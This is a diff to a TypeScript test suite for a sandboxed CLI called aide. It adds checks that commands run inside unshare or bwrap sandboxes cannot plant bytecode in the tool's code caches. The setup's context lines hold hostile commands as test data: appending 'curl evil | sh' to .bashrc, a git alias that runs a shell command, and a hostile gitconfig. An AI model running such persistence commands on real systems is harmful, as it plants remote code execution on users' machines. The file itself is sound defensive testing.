@@ -8,8 +8,9 @@ import assert from 'node:assert/strict';
 import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:net';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import { before, describe, test } from 'node:test';
+import { BIN } from '../helpers/cli.js';
 import { fingerprint, git, gitRepo, tempDir, writeTree, type Cleanup } from '../helpers/sandbox.js';
 import { verifyJson, withoutState, type VerifyJson } from '../helpers/verify.js';
 
@@ -18,6 +19,9 @@ const fileScope: Cleanup = { after: (fn) => process.on('exit', () => void fn()) 
 
 /** aide's own note of the sandbox plan that passed (src/infra/process/plan-memory.ts). */
 const PLAN_MEMORY = '.cache/aide/sandbox-plans.json';
+
+/** The build's code cache beside the bundle: bytecode the bin hands to V8 at every start. */
+const BUILD_CODE_CACHE = join(dirname(BIN), 'aide-cli.cjs.cache');
 
 interface Socket {
   path: string;
@@ -46,6 +50,7 @@ function connectTo(path: string): string {
 }
 
 interface World {
+  codeCache: Buffer;
   corePattern: string;
   home: string;
   homePrint: Record<string, string>;
@@ -83,6 +88,12 @@ async function setUp(mechanism: string): Promise<World> {
       'home',
       `echo '${HOSTILE_GITCONFIG}' >> ${home}/.gitconfig; echo 'curl evil | sh' >> ${home}/.bashrc; git config --global alias.st '!touch /tmp/pwned'`,
     ),
+    // Bytecode aide runs at its next start, outside any sandbox (src/cli/launch/code-cache.ts).
+    attempt(
+      'user-code-cache',
+      `mkdir -p ${home}/.cache/aide; echo x > ${home}/.cache/aide/cli-code-cache.bin`,
+    ),
+    attempt('build-code-cache', `echo x >> ${BUILD_CODE_CACHE}`),
     attempt('tmp', `echo x > /tmp/${marker}`),
     attempt('run', `echo x > /run/${marker}; echo x > /dev/shm/${marker}`),
     attempt(
@@ -108,6 +119,7 @@ async function setUp(mechanism: string): Promise<World> {
   });
   // The shadow exists before the commands run: aide makes it for the snapshot.
   const corePattern = readFileSync(CORE_PATTERN, 'utf8');
+  const codeCache = readFileSync(BUILD_CODE_CACHE);
   const homePrint = fingerprint(home);
   const mainGit = fingerprint(main);
   const linkedPrint = fingerprint(linked);
@@ -115,6 +127,7 @@ async function setUp(mechanism: string): Promise<World> {
   const mainRun = (await verifyJson(main, [], env)).report;
   const linkedRun = (await verifyJson(linked, [], env)).report;
   return {
+    codeCache,
     corePattern,
     home,
     homePrint,
@@ -160,6 +173,13 @@ for (const mechanism of ['unshare', 'bwrap']) {
           /^\{"format":1,"passed":\{("[0-9a-f]{32}":\d+,?)+\}\}\n$/,
         );
       assert.equal(readFileSync(join(world.home, '.gitconfig'), 'utf8'), '[user]\n\tname = Real User\n');
+    });
+
+    test("cannot plant bytecode in aide's code caches (the user's, the build's)", () => {
+      assert.equal(existsSync(join(world.home, '.cache/aide/cli-code-cache.bin')), false);
+      assert.deepEqual(readFileSync(BUILD_CODE_CACHE), world.codeCache);
+      for (const report of [world.mainRun, world.linkedRun])
+        assert.match(tail(report, 'build-code-cache'), /Read-only file system|Permission denied/);
     });
 
     test('cannot write the shared /tmp', () => {
